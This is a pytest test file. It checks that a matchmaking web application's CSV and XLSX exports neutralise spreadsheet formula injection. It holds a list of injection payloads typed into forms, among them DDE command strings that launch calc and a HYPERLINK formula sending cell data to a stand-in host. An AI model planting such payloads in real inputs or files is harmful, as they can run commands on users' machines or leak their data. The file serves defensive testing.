"""Formulas into what people type, and every file for a spreadsheet read again: none of them runs.

A file is cut at commas and at semicolons, as spreadsheet programs of different countries do.
"""

import csv
import io
from collections.abc import Callable, Iterator

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from models import Listing, Organization, ReportSnapshot, User
from models.session import Sessions
from tests.architecture import ROOT
from tests.factories.cast import Cast
from tests.factories.listings import make_need, make_organization, make_user
from tests.factories.matches import make_match
from tests.helpers import Browser

SignIn = Callable[[User], Browser]
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://x.example?"&A1,"see")',
    "+1+cmd|' /C calc'!A1",
    "-2+3+cmd|' /C calc'!A2",
    "@SUM(1+1)*cmd|' /C calc'!A3",
    "\t=1+4",
    "\r=1+5",
    "\r\n=1+6",
    "'=1+7",
    '"=1+8',
    "ore;=1+9",
    "\uff1d1+10",
    "%0A=1+11",
    "=1+12;=1+13",
)
#: So many are typed as the title of a report and the name of a partnership.
REPORTS = 3
RUNS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#: The only modules that may write cells: what they write is looked at here.
WRITERS = {
    "matchmaker/documents/spreadsheet_csv.py",
    "matchmaker/documents/spreadsheet_xlsx.py",
    "matchmaker/services/listing_template.py",  # the house's own examples
}


@pytest.fixture
def files(cast: Cast, sessions: Sessions, sign_in: SignIn) -> dict[str, tuple[str, bytes]]:
    """Every file that is made for a spreadsheet, after all formulas were typed: name → file."""
    lonely = _prepared(sessions, cast)
    asker, answerer, officer = map(sign_in, (cast.asker, cast.answerer, cast.officer))
    half = len(FORMULAS) // 2
    for number, pair in enumerate(zip(FORMULAS[:half], FORMULAS[half:], strict=True), 1):
        _write(asker, "needs", title=pair[0], problem=pair[0])
        _write(answerer, "offers", title=pair[1], description=pair[1], type="know_how")
        _match(sessions, number)
    for formula in FORMULAS[:REPORTS]:
        partnership = _found(officer, cast, formula)
        officer.get("/secretariat/reports/new").submit("/preview", title=formula, scope=partnership)
        officer.submit("/secretariat/reports")
    asker.get("/matches?band=all").submit("/answer", answer="interesting", note=FORMULAS[0])
    asker.get("/account").submit("/account", name=FORMULAS[0])
    with sessions.reading() as session:
        reports = session.scalars(select(ReportSnapshot.reference)).all()
    asker.get(f"/partnerships/reports/{reports[0]}")
    downloads = {
        "new matches": asker.client.get("/matches/export.xlsx?band=all"),
        "answered matches": asker.client.get("/matches/export.xlsx?tab=interesting&band=all"),
        "audit": officer.client.get("/audit/events.csv"),
        "country": officer.client.get("/country/figures.csv?code=SE"),
        "invitations": officer.client.get(f"/secretariat/unmatched/{lonely}/invitations.csv"),
        "partnership report": _report(asker, f"/partnerships/reports/{reports[0]}"),
        **{f"report {r}": _report(officer, f"/secretariat/reports/{r}") for r in reports},
    }
    assert {answer.status_code for answer in downloads.values()} == {200}
    return {name: (answer.mimetype, answer.data) for name, answer in downloads.items()}


def _prepared(sessions: Sessions, cast: Cast) -> str:
    """A need that nobody answers, and those who could; an importer has named them."""
    with sessions.writing() as session:
        glass = {"sectors": ["glass"], "country": "SE"}
        owner = make_organization(session, **glass)
        lonely = make_need(session, owner, sectors=["glass"], technologies=["waste_heat"])
        for formula in FORMULAS:
            make_user(session, make_organization(session, name=formula, **glass))
        session.get_one(Organization, cast.need.organization_id).name = FORMULAS[0]
        return lonely.reference


def _write(browser: Browser, kind: str, **fields: object) -> None:
    codes = {"sectors": ["steel"], "collaborations": ["co_development"]}
    browser.get(f"/{kind}/new")
    browser.submit(f"/{kind}/new", **codes, teaser="x" * 40, intent="publish", **fields)
    assert "published" in browser.text


def _match(sessions: Sessions, rank: int) -> None:
    """What the worker would find: the newest need of the one and offer of the other."""
    with sessions.writing() as session:
        newest = select(Listing).order_by(Listing.id.desc())
        need = session.scalars(newest.where(Listing.kind == "need")).first()
        offer = session.scalars(newest.where(Listing.kind == "offer")).first()
        make_match(session, need, offer, rank=rank)


def _found(officer: Browser, cast: Cast, name: str) -> str:
    members = [cast.need.organization.reference]
    officer.get("/partnerships/new").submit("/partnerships/new", name=name, members=members)
    return officer.url.rpartition("/")[2]


def _report(browser: Browser, address: str):
    token = browser.get(address).page.find("input", {"name": "csrf_token"})["value"]
    return browser.client.post(f"{address}/download", data={"csrf_token": token, "format": "csv"})


def cells(mimetype: str, data: bytes) -> Iterator[str]:
    """Every text of a file, as each program would cut it; no cell of a workbook is a formula."""
    if mimetype == XLSX:
        for sheet in load_workbook(io.BytesIO(data)):
            found = [cell for row in sheet for cell in row]
            assert not [cell for cell in found if cell.data_type in ("f", "e")]
            yield from (cell.value for cell in found if isinstance(cell.value, str))
    else:
        text = data.decode("utf-8-sig")
        for delimiter in ",;":
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
                yield from row


def test_no_text_of_anybody_is_a_formula_in_a_file_and_each_can_be_read(files) -> None:
    for name, (mimetype, data) in files.items():
        found = list(cells(mimetype, data))
        assert not [cell for cell in found if cell.startswith(RUNS)], name
    read = {name: "\n".join(cells(*file)) for name, file in files.items()}
    matches = read["new matches"] + read["answered matches"]
    assert not missing(FORMULAS, read["invitations"])
    assert not missing(FORMULAS, matches)
    for name in ("audit", "partnership report", "answered matches"):
        assert not missing(FORMULAS[:1], read[name])
    assert not missing(FORMULAS[:REPORTS], "".join(read[n] for n in read if n.startswith("report")))


def missing(formulas: tuple[str, ...], text: str) -> list[str]:
    """Those that a reader does not find, whatever apostrophes stand before them."""
    plain = text.replace("'", "")
    return [formula for formula in formulas if formula.strip().replace("'", "") not in plain]


def test_cells_are_written_in_one_place() -> None:
    """A new file for a spreadsheet goes through it, and so through the test above."""
    marks = ("csv.writer(", "csv.DictWriter(", "Workbook(")
    modules = {
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "matchmaker").rglob("*.py")
        if any(mark in path.read_text("utf-8") for mark in marks)
    }
    assert modules == WRITERS
